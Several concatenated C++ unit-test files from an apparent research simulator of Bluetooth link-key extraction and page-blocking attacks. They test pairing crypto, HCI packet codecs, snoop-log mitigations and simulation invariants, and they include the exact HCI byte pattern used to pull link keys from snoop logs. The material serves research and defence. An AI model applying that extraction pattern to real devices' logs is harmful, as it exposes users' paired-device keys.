  EXPECT_NE(e22(rand, pin1, kAddrC), e22(rand, pin2, kAddrC));
  EXPECT_NE(e22(rand, pin1, kAddrC), e22(rand, pin1, kAddrM));
}

TEST(E22, AcceptsFullSixteenBytePin) {
  const Rand128 rand = rand_of(0x33);
  const Bytes pin(16, 0x77);
  // With a 16-byte PIN no address augmentation happens; must still work and
  // stay address-independent.
  EXPECT_EQ(e22(rand, pin, kAddrC), e22(rand, pin, kAddrM));
}

TEST(E3, EncryptionKeyBindsAllInputs) {
  const LinkKey key = key_of(0x71);
  const Rand128 rand = rand_of(0x44);
  Aco cof{};
  cof.fill(0x55);
  const EncryptionKey base = e3(key, rand, cof);

  EXPECT_NE(e3(key_of(0x72), rand, cof), base);
  EXPECT_NE(e3(key, rand_of(0x45), cof), base);
  Aco cof2 = cof;
  cof2[0] ^= 1;
  EXPECT_NE(e3(key, rand, cof2), base);
}

TEST(E3, UsesAcoFromAuthentication) {
  // The intended flow: E1 produces the ACO, E3 consumes it as COF.
  const LinkKey key = key_of(0x71);
  const E1Output auth = e1(key, rand_of(0x2a), kAddrC);
  const EncryptionKey kc = e3(key, rand_of(0x99), auth.aco);
  EXPECT_EQ(kc, e3(key, rand_of(0x99), auth.aco));  // deterministic
}

TEST(ShortenKey, ReducesEntropyByTruncation) {
  EncryptionKey key{};
  for (std::size_t i = 0; i < key.size(); ++i) key[i] = static_cast<std::uint8_t>(i + 1);
  const EncryptionKey one_byte = shorten_key(key, 1);  // the KNOB end state
  EXPECT_EQ(one_byte[0], 1);
  for (std::size_t i = 1; i < one_byte.size(); ++i) EXPECT_EQ(one_byte[i], 0);
  EXPECT_EQ(shorten_key(key, 16), key);
  EXPECT_EQ(shorten_key(key, 99), key);  // clamped
}

// Sweep: SRES over many keys shows no obvious collisions.
class E1KeySweep : public ::testing::TestWithParam<int> {};

TEST_P(E1KeySweep, SresVariesWithKey) {
  const Rand128 challenge = rand_of(0xAB);
  const auto base = e1(key_of(0), challenge, kAddrC).sres;
  const auto out = e1(key_of(static_cast<std::uint8_t>(GetParam())), challenge, kAddrC).sres;
  EXPECT_NE(out, base);
}

INSTANTIATE_TEST_SUITE_P(KeyFills, E1KeySweep, ::testing::Values(1, 2, 4, 8, 16, 32, 64, 128, 255));

}  // namespace
}  // namespace blap::crypto
