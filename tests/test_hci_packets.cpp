// Unit tests for the HCI packet model and typed command/event codecs.
#include <gtest/gtest.h>

#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::hci {
namespace {

const BdAddr kAddr = *BdAddr::parse("00:1b:7d:da:71:0a");

TEST(HciPacket, CommandWireFormat) {
  // The exact byte pattern the paper's USB extraction searches for:
  // H4 type 0x01, opcode 0x040b little-endian, length 0x16.
  LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddr;
  for (std::size_t i = 0; i < 16; ++i) cmd.link_key[i] = static_cast<std::uint8_t>(i);
  const Bytes wire = cmd.encode().to_wire();
  ASSERT_GE(wire.size(), 4u);
  EXPECT_EQ(wire[0], 0x01);  // command indicator
  EXPECT_EQ(wire[1], 0x0b);  // opcode low
  EXPECT_EQ(wire[2], 0x04);  // opcode high
  EXPECT_EQ(wire[3], 0x16);  // 22 parameter bytes
  EXPECT_EQ(wire.size(), 4u + 22u);
}

TEST(HciPacket, FromWireRejectsBadTypeByte) {
  EXPECT_FALSE(HciPacket::from_wire(Bytes{0x00, 0x01}).has_value());
  EXPECT_FALSE(HciPacket::from_wire(Bytes{0x05}).has_value());
  EXPECT_FALSE(HciPacket::from_wire(Bytes{}).has_value());
}

TEST(HciPacket, WireRoundTrip) {
  const HciPacket original = make_command(op::kReset, {});
  auto parsed = HciPacket::from_wire(original.to_wire());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, original);
}

TEST(HciPacket, AccessorsRejectWrongType) {
  const HciPacket cmd = make_command(op::kReset, {});
  EXPECT_FALSE(cmd.event_code().has_value());
  EXPECT_FALSE(cmd.acl_handle().has_value());
  const HciPacket evt = make_event(ev::kInquiryComplete, Bytes{0x00});
  EXPECT_FALSE(evt.command_opcode().has_value());
}

TEST(HciPacket, TruncatedHeadersReturnNullopt) {
  HciPacket packet;
  packet.type = PacketType::kCommand;
  packet.payload = {0x0b};  // half an opcode
  EXPECT_FALSE(packet.command_opcode().has_value());
  packet.type = PacketType::kEvent;
  packet.payload = {0x17};  // code but no length
  EXPECT_FALSE(packet.event_code().has_value());
}

TEST(HciPacket, TruncatedParamsReturnNullopt) {
  HciPacket packet;
  packet.type = PacketType::kCommand;
  packet.payload = {0x0b, 0x04, 0x16, 0x01};  // claims 22 bytes, has 1
  EXPECT_TRUE(packet.command_opcode().has_value());
  EXPECT_FALSE(packet.command_params().has_value());
}

TEST(HciPacket, AclFraming) {
  const Bytes data = {0xDE, 0xAD};
  const HciPacket acl = make_acl(0x0ABC, data);
  EXPECT_EQ(acl.acl_handle(), 0x0ABC);
  ASSERT_TRUE(acl.acl_data().has_value());
  EXPECT_EQ(to_bytes(*acl.acl_data()), data);
}

TEST(HciPacket, AclHandleMasksTo12Bits) {
  const HciPacket acl = make_acl(0xFFFF, {});
  EXPECT_EQ(acl.acl_handle(), 0x0FFF);
}

TEST(HciPacket, DescribeNamesKnownPackets) {
  EXPECT_NE(make_command(op::kCreateConnection, {}).describe().find("HCI_Create_Connection"),
            std::string::npos);
  EXPECT_NE(make_event(ev::kLinkKeyRequest, {}).describe().find("HCI_Link_Key_Request"),
            std::string::npos);
}

TEST(Opcodes, PaperCriticalValues) {
  EXPECT_EQ(op::kLinkKeyRequestReply, 0x040B);
  EXPECT_EQ(op::kCreateConnection, 0x0405);
  EXPECT_EQ(op::kAuthenticationRequested, 0x0411);
  EXPECT_EQ(op::kAcceptConnectionRequest, 0x0409);
  EXPECT_EQ(ev::kLinkKeyRequest, 0x17);
  EXPECT_EQ(ev::kLinkKeyNotification, 0x18);
  EXPECT_EQ(ev::kConnectionRequest, 0x04);
}

TEST(Commands, LinkKeyReplyRoundTripPreservesKeyByteOrder) {
  LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddr;
  for (std::size_t i = 0; i < 16; ++i) cmd.link_key[i] = static_cast<std::uint8_t>(0xC4 - i);
  const HciPacket packet = cmd.encode();
  auto back = LinkKeyRequestReplyCmd::decode(*packet.command_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->bdaddr, kAddr);
  EXPECT_EQ(back->link_key, cmd.link_key);
}

TEST(Commands, CreateConnectionRoundTrip) {
  CreateConnectionCmd cmd;
  cmd.bdaddr = kAddr;
  cmd.packet_type = 0xCC18;
  cmd.clock_offset = 0x1234;
  auto back = CreateConnectionCmd::decode(*cmd.encode().command_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->bdaddr, cmd.bdaddr);
  EXPECT_EQ(back->packet_type, cmd.packet_type);
  EXPECT_EQ(back->clock_offset, cmd.clock_offset);
}

TEST(Commands, IoCapabilityReplyRejectsInvalidCapability) {
  IoCapabilityRequestReplyCmd cmd;
  cmd.bdaddr = kAddr;
  HciPacket packet = cmd.encode();
  // Corrupt the IO capability byte to an out-of-range value.
  packet.payload[3 + 6] = 0x07;
  EXPECT_FALSE(IoCapabilityRequestReplyCmd::decode(*packet.command_params()).has_value());
}

TEST(Commands, WriteLocalNamePadsTo248) {
  WriteLocalNameCmd cmd;
  cmd.name = "velvet";
  const HciPacket packet = cmd.encode();
  EXPECT_EQ(packet.command_params()->size(), 248u);
  auto back = WriteLocalNameCmd::decode(*packet.command_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->name, "velvet");
}

TEST(Commands, DisconnectCarriesReason) {
  DisconnectCmd cmd;
  cmd.handle = 0x0006;
  cmd.reason = Status::kRemoteUserTerminatedConnection;
  auto back = DisconnectCmd::decode(*cmd.encode().command_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->handle, 0x0006);
  EXPECT_EQ(back->reason, Status::kRemoteUserTerminatedConnection);
}

TEST(Events, ConnectionCompleteRoundTrip) {
  ConnectionCompleteEvt evt;
  evt.status = Status::kSuccess;
  evt.handle = 0x0006;
  evt.bdaddr = kAddr;
  auto back = ConnectionCompleteEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->handle, 0x0006);
  EXPECT_EQ(back->bdaddr, kAddr);
  EXPECT_EQ(back->status, Status::kSuccess);
}

TEST(Events, LinkKeyNotificationRoundTripWithType) {
  LinkKeyNotificationEvt evt;
  evt.bdaddr = kAddr;
  for (std::size_t i = 0; i < 16; ++i) evt.link_key[i] = static_cast<std::uint8_t>(i * 17);
  evt.key_type = crypto::LinkKeyType::kUnauthenticatedCombinationP256;
  auto back = LinkKeyNotificationEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->link_key, evt.link_key);
  EXPECT_EQ(back->key_type, crypto::LinkKeyType::kUnauthenticatedCombinationP256);
}

TEST(Events, CommandCompleteCarriesReturnParams) {
  CommandCompleteEvt evt;
  evt.command_opcode = op::kReadBdAddr;
  evt.return_parameters = {0x00, 0x0a, 0x71, 0xda, 0x7d, 0x1b, 0x00};
  auto back = CommandCompleteEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->command_opcode, op::kReadBdAddr);
  EXPECT_EQ(back->return_parameters.size(), 7u);
}

TEST(Events, RemoteNameRoundTrip) {
  RemoteNameRequestCompleteEvt evt;
  evt.bdaddr = kAddr;
  evt.remote_name = "VELVET";
  auto back = RemoteNameRequestCompleteEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->remote_name, "VELVET");
}

TEST(Events, InquiryResultRoundTrip) {
  InquiryResultEvt evt;
  evt.bdaddr = kAddr;
  evt.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);
  auto back = InquiryResultEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->class_of_device.raw(), ClassOfDevice::kHandsFree);
}

TEST(Events, UserConfirmationCarriesNumericValue) {
  UserConfirmationRequestEvt evt;
  evt.bdaddr = kAddr;
  evt.numeric_value = 595'311;
  auto back = UserConfirmationRequestEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->numeric_value, 595'311u);
}

// Round-trip sweep over every event struct with default-ish values.
TEST(Events, AllDecodersRejectEmptyParams) {
  const Bytes empty;
  EXPECT_FALSE(CommandCompleteEvt::decode(empty).has_value());
  EXPECT_FALSE(CommandStatusEvt::decode(empty).has_value());
  EXPECT_FALSE(InquiryResultEvt::decode(empty).has_value());
  EXPECT_FALSE(ConnectionRequestEvt::decode(empty).has_value());
  EXPECT_FALSE(ConnectionCompleteEvt::decode(empty).has_value());
  EXPECT_FALSE(DisconnectionCompleteEvt::decode(empty).has_value());
  EXPECT_FALSE(AuthenticationCompleteEvt::decode(empty).has_value());
  EXPECT_FALSE(EncryptionChangeEvt::decode(empty).has_value());
  EXPECT_FALSE(LinkKeyRequestEvt::decode(empty).has_value());
  EXPECT_FALSE(LinkKeyNotificationEvt::decode(empty).has_value());
  EXPECT_FALSE(IoCapabilityRequestEvt::decode(empty).has_value());
  EXPECT_FALSE(IoCapabilityResponseEvt::decode(empty).has_value());
  EXPECT_FALSE(UserConfirmationRequestEvt::decode(empty).has_value());
  EXPECT_FALSE(SimplePairingCompleteEvt::decode(empty).has_value());
}

}  // namespace
}  // namespace blap::hci

// NOTE: appended — Extended Inquiry Result (EIR) coverage.
namespace blap::hci {
namespace {

TEST(Events, ExtendedInquiryResultRoundTripsName) {
  ExtendedInquiryResultEvt evt;
  evt.bdaddr = *BdAddr::parse("00:1b:7d:da:71:0a");
  evt.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);
  evt.rssi = -42;
  evt.name = "carkit-pro";
  auto back = ExtendedInquiryResultEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->name, "carkit-pro");
  EXPECT_EQ(back->rssi, -42);
  EXPECT_EQ(back->class_of_device.raw(), ClassOfDevice::kHandsFree);
}

TEST(Events, ExtendedInquiryResultEmptyNameYieldsEmpty) {
  ExtendedInquiryResultEvt evt;
  evt.bdaddr = *BdAddr::parse("00:1b:7d:da:71:0a");
  evt.name = "";
  auto back = ExtendedInquiryResultEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_TRUE(back->name.empty());
}

TEST(Events, ExtendedInquiryResultRejectsTruncatedEir) {
  ExtendedInquiryResultEvt evt;
  evt.bdaddr = *BdAddr::parse("00:1b:7d:da:71:0a");
  evt.name = "x";
  HciPacket packet = evt.encode();
  packet.payload.resize(packet.payload.size() - 10);  // shear the EIR block
  packet.payload[1] = static_cast<std::uint8_t>(packet.payload.size() - 2);
  EXPECT_FALSE(ExtendedInquiryResultEvt::decode(*packet.event_params()).has_value());
}

TEST(Events, ExtendedInquiryResultLongNameTruncatesSafely) {
  ExtendedInquiryResultEvt evt;
  evt.bdaddr = *BdAddr::parse("00:1b:7d:da:71:0a");
  evt.name = std::string(300, 'N');
  auto back = ExtendedInquiryResultEvt::decode(*evt.encode().event_params());
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->name.size(), 238u);
}

}  // namespace
}  // namespace blap::hci
