// Unit tests for the §VII mitigation building blocks.
#include <gtest/gtest.h>

#include "core/mitigations.hpp"
#include "core/snoop_extractor.hpp"
#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::core {
namespace {

const BdAddr kAddr = *BdAddr::parse("00:1b:7d:da:71:0a");

hci::HciPacket key_reply() {
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddr;
  for (std::size_t i = 0; i < 16; ++i) cmd.link_key[i] = static_cast<std::uint8_t>(0x30 + i);
  return cmd.encode();
}

hci::HciPacket key_notification() {
  hci::LinkKeyNotificationEvt evt;
  evt.bdaddr = kAddr;
  evt.link_key.fill(0x44);
  return evt.encode();
}

hci::SnoopRecord rec(hci::HciPacket packet) {
  hci::SnoopRecord record;
  record.timestamp_us = 1;
  record.direction = hci::Direction::kHostToController;
  record.packet = std::move(packet);
  return record;
}

TEST(IsKeyBearing, IdentifiesBothKeyMessages) {
  EXPECT_TRUE(is_key_bearing(key_reply()));
  EXPECT_TRUE(is_key_bearing(key_notification()));
  EXPECT_FALSE(is_key_bearing(hci::make_command(hci::op::kReset, {})));
  EXPECT_FALSE(is_key_bearing(hci::make_command(hci::op::kLinkKeyRequestNegativeReply, Bytes(6))));
  EXPECT_FALSE(is_key_bearing(hci::make_event(hci::ev::kLinkKeyRequest, Bytes(6))));
  EXPECT_FALSE(is_key_bearing(hci::make_acl(1, Bytes{1, 2, 3})));
}

TEST(SnoopFilter, HeaderOnlyKeepsOpcodeDropsPayload) {
  hci::SnoopLog log;
  log.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kHeaderOnly));
  log.append(rec(key_reply()));
  ASSERT_EQ(log.size(), 1u);
  const auto& record = log.records()[0];
  // Paper §VII-A1: "logging only the first four bytes of the header" —
  // the H4 byte + opcode(2) + length(1); our payload keeps 3 header bytes.
  EXPECT_EQ(record.packet.payload.size(), 3u);
  EXPECT_EQ(record.packet.command_opcode(), hci::op::kLinkKeyRequestReply);
  // The truncation is visible: orig_len records the full size.
  EXPECT_GT(record.original_length, record.packet.to_wire().size());
  // Nothing extractable remains.
  EXPECT_TRUE(extract_link_keys(log).empty());
}

TEST(SnoopFilter, HeaderOnlyTruncatesEventForm) {
  hci::SnoopLog log;
  log.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kHeaderOnly));
  log.append(rec(key_notification()));
  EXPECT_EQ(log.records()[0].packet.payload.size(), 2u);
  EXPECT_TRUE(extract_link_keys(log).empty());
}

TEST(SnoopFilter, RandomizePreservesShapeButNotKey) {
  hci::SnoopLog log;
  log.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kRandomizeKey));
  const hci::HciPacket original = key_reply();
  log.append(rec(original));
  const auto& record = log.records()[0];
  // Same size, same opcode, same address — only the key bytes changed.
  EXPECT_EQ(record.packet.payload.size(), original.payload.size());
  auto logged = hci::LinkKeyRequestReplyCmd::decode(*record.packet.command_params());
  auto truth = hci::LinkKeyRequestReplyCmd::decode(*original.command_params());
  ASSERT_TRUE(logged && truth);
  EXPECT_EQ(logged->bdaddr, truth->bdaddr);
  EXPECT_NE(logged->link_key, truth->link_key);
  // The extractor still "finds" a key record — but it is worthless.
  const auto keys = extract_link_keys(log);
  ASSERT_EQ(keys.size(), 1u);
  EXPECT_NE(keys[0].key, truth->link_key);
}

TEST(SnoopFilter, RandomizeIsDeterministicPerSeed) {
  hci::SnoopLog log1, log2;
  log1.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kRandomizeKey, 7));
  log2.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kRandomizeKey, 7));
  log1.append(rec(key_reply()));
  log2.append(rec(key_reply()));
  EXPECT_EQ(log1.records()[0].packet, log2.records()[0].packet);
}

TEST(SnoopFilter, NonKeyTrafficPassesUntouched) {
  hci::SnoopLog log;
  log.set_filter(make_link_key_snoop_filter(SnoopFilterMode::kHeaderOnly));
  const hci::HciPacket cmd = hci::make_command(hci::op::kCreateConnection, Bytes(13, 0xAB));
  log.append(rec(cmd));
  EXPECT_EQ(log.records()[0].packet, cmd);
}

TEST(ApplyHelpers, WireUpDevices) {
  Simulation sim(9);
  DeviceSpec spec;
  spec.name = "d";
  spec.address = *BdAddr::parse("00:00:00:00:00:01");
  Device& d = sim.add_device(spec);
  EXPECT_FALSE(d.transport().link_key_payload_protected());
  apply_hci_payload_encryption(d);
  EXPECT_TRUE(d.transport().link_key_payload_protected());
  EXPECT_FALSE(d.host().config().detect_page_blocking);
  apply_page_blocking_detection(d);
  EXPECT_TRUE(d.host().config().detect_page_blocking);
}

}  // namespace
}  // namespace blap::core
