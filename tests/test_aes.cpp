// AES-128 validation against FIPS-197 and NIST SP 800-38A vectors.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/aes128.hpp"

namespace blap::crypto {
namespace {

template <std::size_t N>
std::array<std::uint8_t, N> arr(const std::string& hexstr) {
  auto bytes = unhex(hexstr);
  EXPECT_TRUE(bytes.has_value());
  EXPECT_EQ(bytes->size(), N);
  std::array<std::uint8_t, N> out{};
  std::copy(bytes->begin(), bytes->end(), out.begin());
  return out;
}

TEST(Aes128, Fips197AppendixC) {
  const Aes128 cipher(arr<16>("000102030405060708090a0b0c0d0e0f"));
  const auto ct = cipher.encrypt(arr<16>("00112233445566778899aabbccddeeff"));
  EXPECT_EQ(hex(ct), "69c4e0d86a7b0430d8cdb78070b4c55a");
}

TEST(Aes128, Sp80038aEcbVectors) {
  // NIST SP 800-38A F.1.1 ECB-AES128.Encrypt, blocks 1-4.
  const Aes128 cipher(arr<16>("2b7e151628aed2a6abf7158809cf4f3c"));
  EXPECT_EQ(hex(cipher.encrypt(arr<16>("6bc1bee22e409f96e93d7e117393172a"))),
            "3ad77bb40d7a3660a89ecaf32466ef97");
  EXPECT_EQ(hex(cipher.encrypt(arr<16>("ae2d8a571e03ac9c9eb76fac45af8e51"))),
            "f5d3d58503b9699de785895a96fdbaaf");
  EXPECT_EQ(hex(cipher.encrypt(arr<16>("30c81c46a35ce411e5fbc1191a0a52ef"))),
            "43b1cd7f598ece23881b00e3ed030688");
  EXPECT_EQ(hex(cipher.encrypt(arr<16>("f69f2445df4f9b17ad2b417be66c3710"))),
            "7b0c785e27e8ad3f8223207104725dd4");
}

TEST(Aes128, AllZeroKeyAndBlock) {
  const Aes128 cipher(Aes128::Key{});
  EXPECT_EQ(hex(cipher.encrypt(Aes128::Block{})), "66e94bd4ef8a2c3b884cfa59ca342b2e");
}

TEST(Aes128, KeyAvalanche) {
  auto key = arr<16>("2b7e151628aed2a6abf7158809cf4f3c");
  const auto pt = arr<16>("6bc1bee22e409f96e93d7e117393172a");
  const auto ct1 = Aes128(key).encrypt(pt);
  key[0] ^= 0x01;  // single key bit flip
  const auto ct2 = Aes128(key).encrypt(pt);
  int differing_bits = 0;
  for (std::size_t i = 0; i < 16; ++i)
    differing_bits += __builtin_popcount(ct1[i] ^ ct2[i]);
  EXPECT_GT(differing_bits, 40);  // ~64 expected for a good cipher
}

TEST(Aes128, EncryptionIsDeterministic) {
  const Aes128 cipher(arr<16>("000102030405060708090a0b0c0d0e0f"));
  const auto pt = arr<16>("00112233445566778899aabbccddeeff");
  EXPECT_EQ(cipher.encrypt(pt), cipher.encrypt(pt));
}

}  // namespace
}  // namespace blap::crypto
