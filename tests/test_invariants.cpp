// Coverage for the invariant monitor itself (tests/invariant_fixtures/).
//
// Each fixture is a deliberately mutated snapshot that puts the simulation
// into a state no honest run can reach — a rewound virtual clock, a medium
// that lost its link table, a device that forgot its links — and each must
// trip EXACTLY ONE named invariant. The mutations are section splices over
// the snapshot container (13-byte header, then length-framed SIM/MEDM/DEVC
// sections), so they stay valid snapshots that restore cleanly; only the
// cross-layer redundancy is broken.
//
// Regenerate the fixtures (after a deliberate snapshot-layout or scenario
// change) with:
//   BLAP_WRITE_INVARIANT_FIXTURES=1 ./tests/test_invariants
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <string>
#include <vector>

#include "common/state_io.hpp"
#include "invariants/monitor.hpp"
#include "snapshot/chaos_trial.hpp"
#include "snapshot/scenarios.hpp"
#include "snapshot/snapshot.hpp"

namespace blap::snapshot {
namespace {

constexpr std::uint64_t kSeed = 10'000;
/// magic(8) + version u32 + strict flag: every section walk starts here.
constexpr std::size_t kHeaderBytes = 13;

std::string fixture_path(const char* name) {
  return std::string(BLAP_INVARIANT_FIXTURE_DIR) + "/" + name;
}

struct Section {
  std::uint32_t tag = 0;
  std::size_t begin = 0;    // offset of the section header (tag + length)
  std::size_t payload = 0;  // offset of the payload
  std::uint64_t len = 0;
};

std::vector<Section> walk_sections(const Bytes& bytes) {
  std::vector<Section> out;
  std::size_t pos = kHeaderBytes;
  while (pos + 12 <= bytes.size()) {
    Section s;
    s.begin = pos;
    for (int i = 0; i < 4; ++i)
      s.tag |= static_cast<std::uint32_t>(bytes[pos + static_cast<std::size_t>(i)]) << (8 * i);
    for (int i = 0; i < 8; ++i)
      s.len |= static_cast<std::uint64_t>(bytes[pos + 4 + static_cast<std::size_t>(i)])
               << (8 * i);
    s.payload = pos + 12;
    pos = s.payload + s.len;
    out.push_back(s);
  }
  return out;
}

/// Replace one whole section (header + payload) of `dst` with a section of
/// `src`. The result still parses: section lengths are self-describing.
Bytes splice_section(const Bytes& dst, const Section& at, const Bytes& src,
                     const Section& from) {
  Bytes out(dst.begin(), dst.begin() + static_cast<std::ptrdiff_t>(at.begin));
  out.insert(out.end(), src.begin() + static_cast<std::ptrdiff_t>(from.begin),
             src.begin() + static_cast<std::ptrdiff_t>(from.payload + from.len));
  out.insert(out.end(), dst.begin() + static_cast<std::ptrdiff_t>(at.payload + at.len),
             dst.end());
  return out;
}

Section find_section(const Bytes& bytes, std::uint32_t tag, std::size_t ordinal = 0) {
  std::size_t seen = 0;
  for (const Section& s : walk_sections(bytes))
    if (s.tag == tag && seen++ == ordinal) return s;
  ADD_FAILURE() << "section not found";
  return {};
}

/// The deterministic live instant every fixture is derived from: bonded
/// warm-up, then a PAN probe left running — host ACLs, controller links and
/// a radio link all live at once.
Scenario live_cell() {
  Scenario s = build_scenario(kSeed, bonded_cell_params());
  bonded_warm_setup(s);
  bool up = false;
  s.accessory->host().connect_pan(s.target->address(), [&up](bool ok) { up = ok; });
  s.sim->run_for(20 * kSecond);
  EXPECT_TRUE(up);
  return s;
}

std::size_t accessory_index(const Scenario& s) {
  for (std::size_t i = 0; i < s.sim->devices().size(); ++i)
    if (s.sim->devices()[i].get() == s.accessory) return i;
  ADD_FAILURE() << "accessory not in roster";
  return 0;
}

/// Build all three mutated fixtures from scratch. Used by the regeneration
/// mode; the checked-in files are these bytes, verbatim.
struct FixtureSet {
  Bytes clock_rewind;   // strict warm snapshot, SIM clock forced to 1
  Bytes medium_reset;   // live relaxed snapshot, MEDM from the warm (link-free) point
  Bytes device_reset;   // live relaxed snapshot, accessory DEVC from the warm point
};

FixtureSet build_fixtures() {
  constexpr std::uint32_t kSimTag = state::tag('S', 'I', 'M', ' ');
  constexpr std::uint32_t kMediumTag = state::tag('M', 'E', 'D', 'M');
  constexpr std::uint32_t kDeviceTag = state::tag('D', 'E', 'V', 'C');
  FixtureSet set;

  Scenario warm_scenario = build_scenario(kSeed, bonded_cell_params());
  bonded_warm_setup(warm_scenario);
  const auto warm = Snapshot::capture(*warm_scenario.sim);
  EXPECT_TRUE(warm.has_value());
  const Bytes& warm_bytes = warm->bytes();

  // clock-rewind: the strict warm snapshot with its SIM clock (the first
  // u64 of the SIM payload) overwritten to t=1 — every other byte intact,
  // so the restored state is fully coherent except for virtual time.
  set.clock_rewind = warm_bytes;
  const Section sim_section = find_section(set.clock_rewind, kSimTag);
  for (int i = 0; i < 8; ++i)
    set.clock_rewind[sim_section.payload + static_cast<std::size_t>(i)] =
        static_cast<std::uint8_t>(i == 0 ? 1 : 0);

  Scenario live = live_cell();
  const Bytes live_bytes = Snapshot::capture_relaxed(*live.sim).bytes();

  // medium-reset: the live cell, but the medium section replaced with the
  // warm (link-free) one — controller links now reference radio links the
  // medium does not carry.
  set.medium_reset = splice_section(live_bytes, find_section(live_bytes, kMediumTag),
                                    warm_bytes, find_section(warm_bytes, kMediumTag));

  // device-reset: the live cell, but the accessory's device section
  // replaced with its warm one — the radio link is still on the air while
  // one of its endpoint controllers has no entry for it.
  const std::size_t acc = accessory_index(live);
  set.device_reset = splice_section(live_bytes, find_section(live_bytes, kDeviceTag, acc),
                                    warm_bytes, find_section(warm_bytes, kDeviceTag, acc));
  return set;
}

/// Restore `fixture` into a freshly prepared cell with the monitor armed
/// and a zero grace window, run one virtual second, and return the
/// distinct invariant names that tripped.
std::vector<std::string> tripped_invariants(const Bytes& fixture) {
  std::string why;
  const auto snap = Snapshot::from_bytes(fixture, &why);
  EXPECT_TRUE(snap.has_value()) << why;
  if (!snap.has_value()) return {};

  Scenario s = live_cell();
  invariants::InvariantMonitor::Config config;
  config.agreement_grace = 0;  // report persistent skew on the next check
  if (s.attacker != nullptr) config.exempt.push_back(s.attacker->address());
  invariants::InvariantMonitor monitor(*s.sim, config);
  monitor.install();
  monitor.attach_sniffer();
  // Seed the clock watermark at the live instant: installation alone never
  // observes a dispatch, and the clock fixture's whole point is that the
  // restore rewinds time underneath a watermark nobody reset.
  monitor.on_dispatch(s.sim->now(), 0);

  if (snap->strict()) {
    // Fork restore: rewinds the clock. Deliberately NOT followed by
    // monitor.reset() — the clock fixture exists to prove the monitor sees
    // time running backwards when nobody forgives the rewind.
    EXPECT_TRUE(snap->restore(*s.sim, &why)) << why;
    // The restored point is quiescent (the rewind cleared the event queue);
    // schedule one inert event so a dispatch happens at the (mutated) early
    // clock without disturbing any protocol state.
    s.sim->scheduler().schedule_in(kSecond / 2, [] {});
  } else {
    // In-place restore: same simulation, same instant, mutated tables.
    const SimTime target = snap->captured_at();
    EXPECT_GE(target, s.sim->now());
    s.sim->run_for(target - s.sim->now());
    EXPECT_TRUE(snap->restore_in_place(*s.sim, &why)) << why;
    monitor.reset();  // table skew, not clock skew, is what this fixture pins
  }

  monitor.check_now();
  s.sim->run_for(kSecond);
  monitor.check_now();

  std::vector<std::string> names;
  for (const auto& violation : monitor.violations())
    if (std::find(names.begin(), names.end(), violation.invariant) == names.end())
      names.push_back(violation.invariant);
  return names;
}

Bytes slurp(const std::string& path) {
  std::string why;
  const auto snap = Snapshot::load_file(path, &why);
  EXPECT_TRUE(snap.has_value()) << path << ": " << why
                                << " (regenerate with BLAP_WRITE_INVARIANT_FIXTURES=1)";
  return snap.has_value() ? snap->bytes() : Bytes{};
}

TEST(InvariantFixtures, RegenerateWhenRequested) {
  if (std::getenv("BLAP_WRITE_INVARIANT_FIXTURES") == nullptr) GTEST_SKIP();
  const FixtureSet set = build_fixtures();
  const auto write = [](const Bytes& bytes, const char* name) {
    std::string why;
    const auto snap = Snapshot::from_bytes(bytes, &why);
    ASSERT_TRUE(snap.has_value()) << why;
    ASSERT_TRUE(snap->save_file(fixture_path(name)));
  };
  write(set.clock_rewind, "clock-rewind.blapsnap");
  write(set.medium_reset, "medium-reset.blapsnap");
  write(set.device_reset, "device-reset.blapsnap");
}

TEST(InvariantFixtures, ClockRewindTripsOnlyClockMonotonic) {
  const auto names = tripped_invariants(slurp(fixture_path("clock-rewind.blapsnap")));
  EXPECT_EQ(names, std::vector<std::string>{"clock-monotonic"});
}

TEST(InvariantFixtures, MediumResetTripsOnlyLinkTableAgreement) {
  const auto names = tripped_invariants(slurp(fixture_path("medium-reset.blapsnap")));
  EXPECT_EQ(names, std::vector<std::string>{"link-table-agreement"});
}

TEST(InvariantFixtures, DeviceResetTripsOnlyLinkTableAgreement) {
  const auto names = tripped_invariants(slurp(fixture_path("device-reset.blapsnap")));
  EXPECT_EQ(names, std::vector<std::string>{"link-table-agreement"});
}

// An unmutated restore through the same harness trips nothing — the
// fixtures' violations come from the mutations, not the plumbing.
TEST(InvariantFixtures, UnmutatedLiveSnapshotIsClean) {
  Scenario live = live_cell();
  const auto names = tripped_invariants(Snapshot::capture_relaxed(*live.sim).bytes());
  EXPECT_TRUE(names.empty());
}

}  // namespace
}  // namespace blap::snapshot
