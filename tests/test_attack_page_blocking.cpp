// Integration tests for the page blocking attack (paper §V) and the
// baseline MITM race (§VI fn. 1, Table II).
#include <gtest/gtest.h>

#include "core/mitigations.hpp"
